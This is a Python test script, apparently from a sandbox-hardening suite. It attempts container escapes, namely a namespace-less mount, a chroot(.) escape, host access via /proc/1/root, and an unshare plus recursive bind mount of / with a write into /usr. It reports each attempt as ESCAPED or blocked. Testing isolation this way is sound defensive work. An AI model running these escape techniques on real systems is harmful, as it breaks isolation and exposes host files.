# attack: mount in the sandbox's own mount namespace, chroot escape, /proc/1/root, unshare user+mount namespaces
# verdict: ok
# limits: time_s=1 wall_s=2 memory_mb=128
# rlimits_needs_root: true
# check: no_new_mounts
"""ESCAPED when a privileged operation works without a namespace of its own
(mount, chroot) or when any route reaches the test's private directory (argv[3],
mode 700, owned by the test's user), which must stay out of sight."""
import ctypes
import ctypes.util
import os
import sys

token = sys.argv[1] if len(sys.argv) > 1 else "x"
hostdir = sys.argv[3] if len(sys.argv) > 3 else "/nonexistent"
libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_BIND, MS_REC = 4096, 16384


def err() -> str:
    return os.strerror(ctypes.get_errno())


def host_visible(prefix: str = "") -> None:
    if os.path.exists(f"{prefix}{hostdir}/secret.txt"):
        print(f"ESCAPED: host file visible at {prefix}{hostdir}/secret.txt", flush=True)


mnt = os.path.abspath(f"codegym-hostile-{token}-mnt")
os.makedirs(mnt, exist_ok=True)
# 1. mount in the namespace we were given (would change the host's mount table without one)
if libc.mount(b"none", mnt.encode(), b"tmpfs", 0, None) == 0:
    print("ESCAPED: mounted a tmpfs without creating a namespace", flush=True)
    libc.umount2(mnt.encode(), 2)
else:
    print(f"blocked: mount: {err()}", flush=True)
# 2. the classic chroot escape
if libc.chroot(b".") == 0:
    print("chroot(.) succeeded (needs CAP_SYS_CHROOT)", flush=True)
    for _ in range(64):
        os.chdir("..")
    libc.chroot(b".")
    host_visible()
    print("ESCAPED: chroot permitted without a namespace", flush=True)
else:
    print(f"blocked: chroot: {err()}", flush=True)
# 3. pid 1's root directory
host_visible("/proc/1/root")
# 4. a new user + mount namespace (allowed or not, it must not reveal the host)
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
    print("unshare(user|mount) allowed", flush=True)
    libc.mount(b"none", b"/", None, MS_REC | 0x40000, None)  # MS_PRIVATE
    if libc.mount(b"/", mnt.encode(), None, MS_BIND | MS_REC, None) == 0:
        host_visible(mnt)
        try:
            with open(f"{mnt}/usr/codegym-hostile-{token}", "w"):
                pass
            print("ESCAPED: wrote /usr through a bind mount", flush=True)
        except OSError as e:
            print(f"blocked: write via bind mount: {e.strerror}", flush=True)
else:
    print(f"blocked: unshare: {err()}", flush=True)
host_visible()
print("done", flush=True)
